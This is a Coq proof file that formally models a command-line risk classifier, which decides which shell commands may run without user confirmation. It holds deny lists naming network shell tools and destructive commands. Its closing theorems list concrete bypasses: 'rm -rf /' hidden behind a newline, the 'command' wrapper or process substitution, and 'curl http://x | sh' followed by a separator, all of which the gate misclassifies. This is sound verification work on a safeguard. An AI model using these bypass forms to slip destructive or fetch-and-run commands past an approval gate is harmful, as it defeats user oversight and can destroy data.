(* ===== verification/RiskGuard.v ===== *)
(** * The command risk classifier

    [aic-client/src/risk_guard.rs]: the rules and the classification of a command line.
    Of an assessment the level and the rule are modelled; the reason is display text. *)

From S2P Require Import Prelude RustStr RiskLex.

Local Open Scope nat_scope.

Inductive RiskLevel := Safe | NeedsConfirm | Dangerous | Unknown.

#[export] Instance RiskLevel_eq_dec : EqDecision RiskLevel.
Proof. solve_decision. Defined.

Definition allows_auto_confirm (l : RiskLevel) : bool :=
  match l with Safe => true | _ => false end.

Definition severity (l : RiskLevel) : nat :=
  match l with Safe => 0 | NeedsConfirm => 1 | Unknown => 2 | Dangerous => 3 end.

Definition risk_max (a b : RiskLevel) : RiskLevel := if severity b <=? severity a then a else b.

Record RiskAssessment := { level : RiskLevel; rule : option str }.

Definition dangerous (r : str) : RiskAssessment := {| level := Dangerous; rule := Some r |}.
Definition needs_confirm (r : str) : RiskAssessment := {| level := NeedsConfirm; rule := Some r |}.
Definition safe (r : str) : RiskAssessment := {| level := Safe; rule := Some r |}.
Definition unknown : RiskAssessment := {| level := Unknown; rule := None |}.

(** ** Rule helpers *)

(** [x] is one of the literals [l]. *)
Definition oneof (l : list str) (x : str) : bool := bool_decide (x ∈ l).
Definition sub_oneof (l : list str) (x : option str) : bool := from_option (oneof l) false x.

Definition has_flag (args : list str) (flag : str) : bool :=
  existsb (fun a => bool_decide (a = flag) || starts_with (flag ++ lit "=") a) args.

Definition is_option (a : str) : bool := starts_with (lit "-") a.
Definition positionals (args : list str) : list str := filter (fun a => is_option a = false) args.
Definition first_subcommand (args : list str) : option str := positionals args !! 0.
Definition second_subcommand (args : list str) : option str := positionals args !! 1.

Definition short_flag_has_char (args : list str) (bad : list byte) : bool :=
  existsb (fun a => is_option a && negb (starts_with (lit "--") a) && (1 <? length a)
                    && existsb (fun c => bool_decide (c ∈ bad)) (tail a)) args.

(** The positional arguments of [host], whose value-taking options skip a token. *)
Fixpoint host_positionals (args : list str) : nat :=
  match args with
  | [] => 0
  | a :: tl =>
      if is_option a then
        if oneof [lit "-t"; lit "-c"; lit "-N"; lit "-W"; lit "-R"; lit "-m"] a then
          match tl with
          | _ :: rest => host_positionals rest
          | [] => 0
          end
        else host_positionals tl
      else S (host_positionals tl)
  end.

Definition dns_uses_custom_resolver (head : str) (args : list str) : bool :=
  if bool_decide (head = lit "dig") then existsb (starts_with (lit "@")) args
  else if bool_decide (head = lit "nslookup") then 2 <=? length (positionals args)
  else if bool_decide (head = lit "host") then 2 <=? host_positionals args
  else false.

Definition sysctl_is_write (args : list str) : bool :=
  existsb (fun a => bool_decide (a = lit "-w") || (negb (is_option a) && bool_decide (x3d ∈ a))) args.

(** [a.split('=').next()] *)
Definition before_eq (a : str) : str := default a (head (split_byte x3d a)).

Definition curl_has_write_flag (args : list str) : bool :=
  existsb (fun a =>
    let h := before_eq a in
    oneof [lit "-X"; lit "--request"; lit "-d"; lit "--data"; lit "--data-raw"; lit "--data-binary";
           lit "--data-urlencode"; lit "-F"; lit "--form"; lit "-T"; lit "--upload-file"; lit "-O";
           lit "--remote-name"; lit "-o"; lit "--output"; lit "--post-file"; lit "--post-data"] h
    || ((starts_with (lit "-O") h || starts_with (lit "-o") h) && (2 <? length h))) args.

(** ** Dangerous rules *)

Definition rm_recursive (args : list str) : bool :=
  existsb (has_flag args) [lit "-r"; lit "-R"; lit "--recursive"; lit "-rf"; lit "-fr"; lit "-rR"; lit "-Rr"].

Definition match_dangerous_git (args : list str) : option RiskAssessment :=
  let sub := first_subcommand args in
  if sub_oneof [lit "push"] sub then
    if has_flag args (lit "--force") || has_flag args (lit "-f") || has_flag args (lit "--force-with-lease")
    then Some (dangerous (lit "git.push_force")) else None
  else if sub_oneof [lit "reset"] sub then
    if has_flag args (lit "--hard") then Some (dangerous (lit "git.reset_hard")) else None
  else if sub_oneof [lit "clean"] sub then
    if has_flag args (lit "-f") || has_flag args (lit "--force") || has_flag args (lit "-fd")
    then Some (dangerous (lit "git.clean_force")) else None
  else if sub_oneof [lit "checkout"; lit "restore"] sub then
    if existsb (oneof [lit "."; lit "--"]) args then Some (dangerous (lit "git.checkout_dot")) else None
  else None.

Definition match_dangerous_docker (args : list str) : option RiskAssessment :=
  let sub := first_subcommand args in
  if has_flag args (lit "-f") && sub_oneof [lit "rm"; lit "rmi"; lit "system"] sub
  then Some (dangerous (lit "docker.force_remove"))
  else if sub_oneof [lit "prune"] sub
       || (sub_oneof [lit "system"; lit "image"; lit "container"; lit "volume"; lit "network"; lit "builder"] sub
           && sub_oneof [lit "prune"] (second_subcommand args))
  then Some (dangerous (lit "docker.prune"))
  else None.

Definition match_dangerous (head : str) (args : list str) : option RiskAssessment :=
  let sub := first_subcommand args in
  if oneof [lit "ssh"; lit "scp"; lit "sftp"; lit "nc"; lit "ncat"; lit "netcat"; lit "socat";
            lit "telnet"; lit "rsh"; lit "rlogin"] head
  then Some (dangerous (lit "net.remote_access"))
  else if oneof [lit "rm"] head then
    if rm_recursive args then Some (dangerous (lit "rm.recursive")) else None
  else if oneof [lit "git"] head then match_dangerous_git args
  else if oneof [lit "kubectl"] head then
    if sub_oneof [lit "delete"] sub then Some (dangerous (lit "kubectl.delete"))
    else if sub_oneof [lit "apply"] sub && has_flag args (lit "--prune")
    then Some (dangerous (lit "kubectl.apply_prune")) else None
  else if oneof [lit "terraform"] head then
    if sub_oneof [lit "apply"; lit "destroy"] sub then Some (dangerous (lit "terraform.mutate")) else None
  else if oneof [lit "docker"] head then match_dangerous_docker args
  else if oneof [lit "npm"; lit "pnpm"; lit "yarn"] head then
    if sub_oneof [lit "publish"] sub then Some (dangerous (lit "npm.publish")) else None
  else if oneof [lit "dd"] head then Some (dangerous (lit "dd.raw_io"))
  else if oneof [lit "mkfs"; lit "mkfs.ext4"; lit "mkfs.xfs"; lit "mkfs.btrfs"] head
  then Some (dangerous (lit "mkfs"))
  else if oneof [lit "shutdown"; lit "reboot"; lit "halt"; lit "poweroff"] head
  then Some (dangerous (lit "system.power"))
  else None.

(** ** NeedsConfirm rules *)

Definition match_needs_confirm (head : str) (args : list str) : option RiskAssessment :=
  let sub := first_subcommand args in
  if oneof [lit "rm"; lit "mv"; lit "cp"; lit "chmod"; lit "chown"; lit "kill"; lit "pkill"; lit "killall";
            lit "make"; lit "systemctl"; lit "service"] head
  then Some (needs_confirm (lit "fs.mutation"))
  else if oneof [lit "curl"; lit "wget"] head then
    if curl_has_write_flag args then Some (needs_confirm (lit "http.write"))
    else Some (needs_confirm (lit "http.egress"))
  else if oneof [lit "dig"; lit "nslookup"; lit "host"] head && dns_uses_custom_resolver head args
  then Some (needs_confirm (lit "dns.custom_resolver"))
  else if oneof [lit "npm"; lit "pnpm"; lit "yarn"] head
       && sub_oneof [lit "install"; lit "i"; lit "add"; lit "remove"; lit "uninstall"; lit "update"; lit "upgrade"] sub
  then Some (needs_confirm (lit "npm.mutate"))
  else if oneof [lit "cargo"] head && sub_oneof [lit "install"; lit "uninstall"; lit "update"; lit "publish"] sub
  then Some (needs_confirm (lit "cargo.mutate"))
  else if oneof [lit "git"] head
       && sub_oneof [lit "commit"; lit "push"; lit "pull"; lit "merge"; lit "rebase"; lit "stash"; lit "tag"; lit "fetch"] sub
  then Some (needs_confirm (lit "git.mutate"))
  else if oneof [lit "docker"] head
       && sub_oneof [lit "run"; lit "start"; lit "stop"; lit "kill"; lit "restart"; lit "build"; lit "pull"; lit "compose"] sub
  then Some (needs_confirm (lit "docker.mutate"))
  else None.

(** ** Safe rules *)

Definition safe_set : list str :=
  [lit "ls"; lit "ll"; lit "la"; lit "cat"; lit "less"; lit "more"; lit "head"; lit "tail"; lit "echo";
   lit "pwd"; lit "whoami"; lit "id"; lit "date"; lit "uptime"; lit "uname"; lit "hostname"; lit "env";
   lit "printenv"; lit "which"; lit "type"; lit "command"; lit "history"; lit "tree"; lit "stat"; lit "file";
   lit "wc"; lit "grep"; lit "rg"; lit "ag"; lit "find"; lit "fd"; lit "locate"; lit "diff"; lit "cmp";
   lit "df"; lit "du"; lit "free"; lit "sysctl"; lit "ps"; lit "top"; lit "htop"; lit "lsof"; lit "netstat";
   lit "ss"; lit "ip"; lit "ifconfig"; lit "route"; lit "ping"; lit "traceroute"; lit "dig"; lit "nslookup";
   lit "host"; lit "jq"; lit "yq"; lit "xxd"; lit "base64"; lit "sort"; lit "uniq"; lit "cut"; lit "tr";
   lit "column"; lit "comm"; lit "vm_stat"; lit "lsblk"].

(** [sort]/[uniq] with an output file. *)
Definition writes_output (args : list str) : bool :=
  existsb (fun a => bool_decide (a = lit "-o") || starts_with (lit "--output") a
                    || (starts_with (lit "-o") a && (2 <? length a))) args.

Definition docker_is_read (args : list str) : bool :=
  sub_oneof [lit "ps"; lit "stats"; lit "images"; lit "logs"; lit "inspect"; lit "version"; lit "info";
             lit "diff"; lit "history"] (first_subcommand args)
  || (sub_oneof [lit "system"] (first_subcommand args) && sub_oneof [lit "df"] (second_subcommand args)).

Definition journalctl_is_read (args : list str) : bool :=
  let bad_long := existsb (fun a =>
    oneof [lit "--follow"; lit "--rotate"; lit "--flush"; lit "--sync"; lit "--relinquish-var";
           lit "--smart-relinquish-var"; lit "--update-catalog"; lit "--setup-keys"; lit "--header"] a
    || starts_with (lit "--vacuum") a) args in
  let bad_source := existsb (fun a =>
    oneof [lit "--file"; lit "--directory"; lit "--root"; lit "--image"] a
    || starts_with (lit "--file=") a || starts_with (lit "--directory=") a
    || starts_with (lit "--root=") a || starts_with (lit "--image=") a || starts_with (lit "-D") a) args in
  negb (bad_long || bad_source || short_flag_has_char args [x66])
  && bool_decide (lit "--no-pager" ∈ args).

Definition dmesg_is_read (args : list str) : bool :=
  let bad_long := existsb (fun a =>
    oneof [lit "--clear"; lit "--read-clear"; lit "--console-off"; lit "--console-on"; lit "--follow";
           lit "--follow-new"] a
    || starts_with (lit "--console-level") a) args in
  negb (bad_long || short_flag_has_char args [x63; x43; x45; x44; x77; x57; x6e]).

Definition iostat_is_read (args : list str) : bool :=
  let nums := filter (fun a => negb (bool_decide (a = [])) && forallb is_ascii_digit a = true) args in
  let any_zero := existsb (forallb (fun c => bool_decide (c = x30))) nums in
  negb ((length nums =? 1) || any_zero).

Definition SYSTEMCTL_READ : list str :=
  [lit "status"; lit "show"; lit "cat"; lit "is-active"; lit "is-enabled"; lit "is-failed"; lit "list-units";
   lit "list-unit-files"; lit "list-timers"; lit "list-sockets"; lit "list-dependencies"; lit "list-jobs";
   lit "get-default"; lit "help"].

Definition systemctl_is_read (args : list str) : bool :=
  match first_subcommand args with
  | Some sub => oneof SYSTEMCTL_READ sub
  | None => has_flag args (lit "--failed")
  end.

Definition TIMEDATECTL_READ : list str :=
  [lit "status"; lit "show"; lit "list-timezones"; lit "timesync-status"; lit "show-timesync"].

Definition timedatectl_is_read (args : list str) : bool :=
  match first_subcommand args with
  | Some sub => oneof TIMEDATECTL_READ sub
  | None => true
  end.

Definition last_is_read (args : list str) : bool :=
  negb (existsb (fun a => bool_decide (a = lit "--file") || starts_with (lit "--file=") a) args
        || short_flag_has_char args [x66]).

Definition PMSET_MUTATE_SUB : list str :=
  [lit "sleepnow"; lit "displaysleepnow"; lit "schedule"; lit "repeat"; lit "touch"; lit "boot";
   lit "restoredefaults"].

Definition pmset_is_read (args : list str) : bool :=
  let setter := existsb (has_flag args) [lit "-a"; lit "-b"; lit "-c"; lit "-u"; lit "-d"] in
  has_flag args (lit "-g") && negb setter && negb (sub_oneof PMSET_MUTATE_SUB (first_subcommand args)).

Definition LAUNCHCTL_READ : list str :=
  [lit "list"; lit "print"; lit "print-disabled"; lit "dumpstate"; lit "blame"; lit "procinfo"].

Definition crontab_is_read (args : list str) : bool :=
  let mutate := existsb (has_flag args) [lit "-r"; lit "-e"; lit "-i"; lit "-u"] in
  let installs := bool_decide (is_Some (first_subcommand args)) || bool_decide (lit "-" ∈ args) in
  has_flag args (lit "-l") && negb mutate && negb installs.

Definition scutil_is_read (args : list str) : bool :=
  (has_flag args (lit "--dns") || has_flag args (lit "--proxy") || has_flag args (lit "--nwi")
   || has_flag args (lit "--get")) && negb (has_flag args (lit "--set")).

(** [safe] under a condition. *)
Definition safe_if (b : bool) (r : str) : option RiskAssessment := if b then Some (safe r) else None.

Definition match_safe (head : str) (args : list str) : option RiskAssessment :=
  let sub := first_subcommand args in
  if oneof [lit "sort"; lit "uniq"] head && writes_output args then None
  else if oneof [lit "dig"; lit "nslookup"; lit "host"] head && dns_uses_custom_resolver head args then None
  else if oneof [lit "sysctl"] head && sysctl_is_write args then None
  else if oneof safe_set head then Some (safe (lit "safe.readonly"))
  else if oneof [lit "curl"; lit "wget"] head then None
  else if oneof [lit "git"] head then
    safe_if (sub_oneof [lit "status"; lit "log"; lit "diff"; lit "show"; lit "branch"; lit "tag"; lit "blame";
                        lit "ls-files"; lit "ls-tree"; lit "config"; lit "remote"; lit "rev-parse";
                        lit "describe"] sub) (lit "git.read")
  else if oneof [lit "cargo"] head then
    safe_if (sub_oneof [lit "fmt"; lit "check"; lit "clippy"; lit "build"; lit "test"; lit "tree";
                        lit "metadata"; lit "doc"] sub) (lit "cargo.read")
  else if oneof [lit "npm"; lit "pnpm"; lit "yarn"] head then
    safe_if (sub_oneof [lit "test"; lit "run"; lit "list"; lit "ls"; lit "outdated"; lit "audit"] sub)
      (lit "npm.read")
  else if oneof [lit "kubectl"] head then
    safe_if (sub_oneof [lit "get"; lit "describe"; lit "logs"; lit "config"; lit "version"; lit "explain";
                        lit "top"] sub) (lit "kubectl.read")
  else if oneof [lit "docker"] head then safe_if (docker_is_read args) (lit "docker.read")
  else if oneof [lit "journalctl"] head then safe_if (journalctl_is_read args) (lit "journalctl.read")
  else if oneof [lit "dmesg"] head then safe_if (dmesg_is_read args) (lit "dmesg.read")
  else if oneof [lit "vmstat"; lit "iostat"] head then safe_if (iostat_is_read args) (lit "iostat.read")
  else if oneof [lit "systemctl"] head then safe_if (systemctl_is_read args) (lit "systemctl.read")
  else if oneof [lit "timedatectl"] head then safe_if (timedatectl_is_read args) (lit "timedatectl.read")
  else if oneof [lit "last"] head then safe_if (last_is_read args) (lit "last.read")
  else if oneof [lit "pmset"] head then safe_if (pmset_is_read args) (lit "pmset.read")
  else if oneof [lit "launchctl"] head then safe_if (sub_oneof LAUNCHCTL_READ sub) (lit "launchctl.read")
  else if oneof [lit "crontab"] head then safe_if (crontab_is_read args) (lit "crontab.read")
  else if oneof [lit "scutil"] head then safe_if (scutil_is_read args) (lit "scutil.read")
  else if oneof [lit "aic"] head then
    safe_if (bool_decide (args ∈ [[lit "proc-fd-top"]; [lit "proc-changes"]; [lit "proc-groups"]]))
      (lit "aic.selfprobe")
  else None.

(** ** Classification *)

Section Classify.
(** [str::to_lowercase] (Unicode), used for the configured denylist only. *)
Variable to_lowercase : str -> str.

Definition on_denylist (stripped : str) (extra_dangerous : list str) : bool :=
  let lowered := to_lowercase (trim_start stripped) in
  existsb (fun entry =>
    let needle := to_lowercase (trim entry) in
    negb (bool_decide (needle = [])) && starts_with needle lowered) extra_dangerous.

Definition classify_single (segment : str) (extra_dangerous : list str) : RiskAssessment :=
  if bool_decide (segment = []) then unknown
  else if redirect_loop None segment then dangerous (lit "redirect.system_path")
  else
    let stripped := strip_env_prefix segment in
    let '(after_sudo, sudo_used) := strip_privilege_prefix stripped in
    match tokenize after_sudo with
    | Some (t0 :: rest) =>
        let head := base_name t0 in
        if on_denylist stripped extra_dangerous then dangerous (lit "config.dangerous")
        else
          match match_dangerous head rest with
          | Some a => a
          | None =>
              match match_safe head rest with
              | Some a => if sudo_used then needs_confirm (lit "sudo.privilege_escalation") else a
              | None =>
                  match match_needs_confirm head rest with
                  | Some a => a
                  | None =>
                      if sudo_used then needs_confirm (lit "sudo.privilege_escalation") else unknown
                  end
              end
          end
    | _ => unknown
    end.

(** The loop over the segments: a strictly worse assessment replaces the current one. *)
Definition worst_of (extra_dangerous : list str) (segments : list str) : RiskAssessment :=
  foldl (fun worst seg =>
    let asm := classify_single (trim seg) extra_dangerous in
    if severity (level worst) <? severity (level asm) then asm else worst)
    {| level := Safe; rule := None |} segments.

Definition classify_with_extra_denylist (command : str) (extra_dangerous : list str) : RiskAssessment :=
  let trimmed := trim command in
  if bool_decide (trimmed = []) then unknown
  else if contains_unbounded_substitution trimmed then unknown
  else if pipe_loop None trimmed then dangerous (lit "pipe.shell")
  else
    let segments := split_top_level trimmed in
    if bool_decide (segments = []) then unknown else worst_of extra_dangerous segments.

Definition classify (command : str) : RiskAssessment := classify_with_extra_denylist command [].

(** ** Levels of the rules *)

Lemma match_safe_level h args a : match_safe h args = Some a -> level a = Safe.
Proof.
  unfold match_safe, safe_if. repeat case_goal; intros [= <-]; done.
Qed.

Lemma match_needs_confirm_level h args a : match_needs_confirm h args = Some a -> level a = NeedsConfirm.
Proof. unfold match_needs_confirm. repeat case_goal; intros [= <-]; done. Qed.

Lemma match_dangerous_level h args a : match_dangerous h args = Some a -> level a = Dangerous.
Proof.
  unfold match_dangerous, match_dangerous_git, match_dangerous_docker.
  repeat case_goal; intros [= <-]; done.
Qed.

(** ** Aggregation *)

Definition seg_severity (ex : list str) (seg : str) : nat :=
  severity (level (classify_single (trim seg) ex)).

Lemma worst_of_snoc ex segs seg :
  worst_of ex (segs ++ [seg]) =
  (if severity (level (worst_of ex segs)) <? seg_severity ex seg
   then classify_single (trim seg) ex else worst_of ex segs).
Proof. unfold worst_of. by rewrite foldl_app. Qed.

Lemma max_by_app {A} (f : A -> nat) l1 l2 :
  max_list_with f (l1 ++ l2) = max_list_with f l1 `max` max_list_with f l2.
Proof. induction l1 as [|x l1 IH]; simpl; [done|]. rewrite IH. lia. Qed.

Lemma worst_of_severity ex segs :
  severity (level (worst_of ex segs)) = max_list_with (seg_severity ex) segs.
Proof.
  induction segs as [|seg segs IH] using rev_ind; [done|].
  rewrite worst_of_snoc, max_by_app, <- IH. simpl.
  destruct (_ <? _) eqn:E; bool_prop; unfold seg_severity in *; lia.
Qed.

Lemma max_by_le {A} (f : A -> nat) l x : x ∈ l -> f x <= max_list_with f l.
Proof. induction 1; simpl; lia. Qed.

Lemma max_by_bound {A} (f : A -> nat) l n : (forall x, x ∈ l -> f x <= n) -> max_list_with f l <= n.
Proof. induction l as [|x l IH]; simpl; intros H; [lia|]. pose proof (H x ltac:(left)). specialize (IH ltac:(set_solver)). lia. Qed.

Lemma severity_0 l : severity l = 0 <-> l = Safe.
Proof. by destruct l. Qed.

Lemma worst_of_safe ex segs :
  level (worst_of ex segs) = Safe -> forall seg, seg ∈ segs -> level (classify_single (trim seg) ex) = Safe.
Proof.
  intros H seg Hs. apply severity_0. apply severity_0 in H. rewrite worst_of_severity in H.
  pose proof (max_by_le (seg_severity ex) segs seg Hs). unfold seg_severity in *. lia.
Qed.

(** ** What a segment must be to run unattended *)

(** A segment is a plain, unprivileged call of a safelisted command. *)
Definition safelisted (seg : str) (ex : list str) : Prop :=
  redirect_loop None seg = false /\
  exists t0 rest a,
    strip_privilege_prefix (strip_env_prefix seg) = ((strip_privilege_prefix (strip_env_prefix seg)).1, false) /\
    tokenize (strip_privilege_prefix (strip_env_prefix seg)).1 = Some (t0 :: rest) /\
    on_denylist (strip_env_prefix seg) ex = false /\
    match_dangerous (base_name t0) rest = None /\ match_safe (base_name t0) rest = Some a.

Lemma classify_single_safe seg ex : level (classify_single seg ex) = Safe <-> seg <> [] /\ safelisted seg ex.
Proof.
  unfold classify_single, safelisted. case_bool_decide as He; [split; [done | by intros [? _]]|].
  destruct (redirect_loop None seg); [split; [done | by intros (_ & ? & _)]|].
  destruct (strip_privilege_prefix (strip_env_prefix seg)) as [after used]. simpl.
  split.
  - destruct (tokenize after) as [[|t0 rest]|]; try done.
    destruct (on_denylist _ _) eqn:D; [done|].
    destruct (match_dangerous _ _) eqn:M1; [intros H; apply match_dangerous_level in M1; congruence|].
    destruct (match_safe _ _) eqn:M2.
    + destruct used; [done|]. intros _. split; [done|]. split; [done|]. by exists t0, rest, r.
    + destruct (match_needs_confirm _ _) eqn:M3; [intros H; apply match_needs_confirm_level in M3; congruence|].
      by destruct used.
  - intros (_ & _ & t0 & rest & a & [= ->] & -> & -> & -> & Hs). rewrite Hs. by apply match_safe_level in Hs.
Qed.

Lemma auto_run_spec cmd ex :
  allows_auto_confirm (level (classify_with_extra_denylist cmd ex)) = true <->
  contains_unbounded_substitution (trim cmd) = false /\ pipe_loop None (trim cmd) = false /\
  split_top_level (trim cmd) <> [] /\
  Forall (fun seg => safelisted (trim seg) ex) (split_top_level (trim cmd)).
Proof.
  unfold classify_with_extra_denylist. split.
  - case_bool_decide as H0; [done|]. destruct (contains_unbounded_substitution _); [done|].
    destruct (pipe_loop None _); [done|]. case_bool_decide as H1; [done|]. intros H.
    split; [done|]. split; [done|]. split; [done|]. apply Forall_forall. intros seg Hs.
    destruct (level (worst_of _ _)) eqn:L; try done.
    apply (worst_of_safe _ _ L), classify_single_safe in Hs. apply Hs.
  - intros (H1 & H2 & H3 & H4). rewrite bool_decide_eq_false_2 by (intros E; by rewrite E in H3).
    rewrite H1, H2, bool_decide_eq_false_2 by done.
    assert (level (worst_of ex (split_top_level (trim cmd))) = Safe) as ->; [|done].
    apply severity_0. rewrite worst_of_severity. apply Nat.le_0_r. apply max_by_bound.
    intros seg Hs. rewrite Forall_forall in H4. apply Nat.le_0_r. apply severity_0. apply classify_single_safe.
    split; [|by apply H4]. apply list_elem_of_filter in Hs as [Hb _]. unfold is_blank in Hb. by bool_prop.
Qed.
(** C10: no command line that starts with [sudo] or [doas] runs without confirmation,
    whatever follows, in whatever case of quotes, separators or redirections. *)
Theorem privileged_never_auto_run name args ex :
  name ∈ [lit "sudo"; lit "doas"] ->
  allows_auto_confirm (level (classify_with_extra_denylist (name ++ x20 :: args) ex)) = false.
Proof.
  intros Hn. apply not_true_iff_false. rewrite auto_run_spec. intros (_ & _ & _ & H).
  assert (Hp : privileged_text (trim (name ++ x20 :: args))) by (apply privileged_trim; exists name; eauto).
  destruct (privileged_segment _ Hp) as (seg & Hin & Hseg). rewrite Forall_forall in H.
  destruct (H seg Hin) as (_ & t0 & rest & a & Hs & _).
  apply (f_equal snd) in Hs. by rewrite privileged_detected in Hs.
Qed.

(** A command line that begins and ends with a plain byte, and not with a separator. *)
Definition tidy (s : str) : Prop :=
  (exists x, head s = Some x /\ is_plain x = true /\ is_sep x = false) /\ exists y, last s = Some y /\ is_plain y = true.

Definition risk (ex : list str) (cmd : str) : nat := severity (level (classify_with_extra_denylist cmd ex)).

Lemma risk_at_most ex cmd : risk ex cmd <= 3.
Proof. unfold risk. destruct (level _); simpl; lia. Qed.

Lemma tidy_trim s : tidy s -> trim s = s.
Proof. intros [(x & Hx & Px & _) (y & Hy & Py)]. apply trim_plain_ends; congruence. Qed.

Lemma tidy_join a b : tidy a -> tidy b -> tidy (a ++ x3b :: b).
Proof.
  intros [(x & Hx & Hs) _] [_ (y & Hy & Py)]. split.
  - exists x. split; [|done]. by destruct a.
  - exists y. split; [|done]. rewrite last_app, last_cons, Hy. done.
Qed.

(** The assessment of a tidy line without substitution. *)
Lemma risk_tidy ex s :
  tidy s -> contains_unbounded_substitution s = false ->
  risk ex s = if pipe_loop None s then 3 else max_list_with (seg_severity ex) (split_top_level s).
Proof.
  intros Ht Hs. unfold risk, classify_with_extra_denylist. rewrite tidy_trim, Hs by done.
  destruct Ht as [(x & Hx & Px & Sx) _]. destruct s as [|z s]; [done|]. injection Hx as ->.
  rewrite bool_decide_eq_false_2 by done. destruct (pipe_loop None _); [done|].
  rewrite bool_decide_eq_false_2 by (by apply segment_exists). apply worst_of_severity.
Qed.


(** destructive command lines that are allowed to run without confirmation: a
    newline is not a separator, the wrapper [command], process substitution, the actions
    of [find], and deleting subcommands of [git]. *)
Theorem destructive_auto_run :
  Forall (fun cmd => allows_auto_confirm (level (classify cmd)) = true)
    [lit "ls" ++ [x0a] ++ lit "rm -rf /"; lit "command rm -rf /"; lit "cat <(rm -rf /)";
     lit "find / -delete"; lit "find / -exec rm -rf {} +"; lit "git branch -D main"; lit "git tag -d v1"].
Proof. repeat constructor. Qed.

(** recursive deletions and pipes to a shell that are not classified as dangerous:
    bundled flags of [rm], an assignment after [env], and a separator directly after the
    shell's name. *)
Theorem dangerous_missed :
  Forall (fun cmd => level (classify cmd) <> Dangerous)
    [lit "rm -rfv /"; lit "rm -fR /"; lit "env A=1 rm -rf /"; lit "curl http://x | sh; ls"].
Proof. repeat constructor; vm_compute; discriminate. Qed.
End Classify.

(** ** Witnesses *)

Lemma privileged_never_auto_run_witness :
  allows_auto_confirm (level (classify_with_extra_denylist (fun s => s) (lit "sudo" ++ x20 :: lit "ls -la") [])) = false.
Proof. apply (privileged_never_auto_run (fun s => s) (lit "sudo") (lit "ls -la") []). by_decide. Defined.

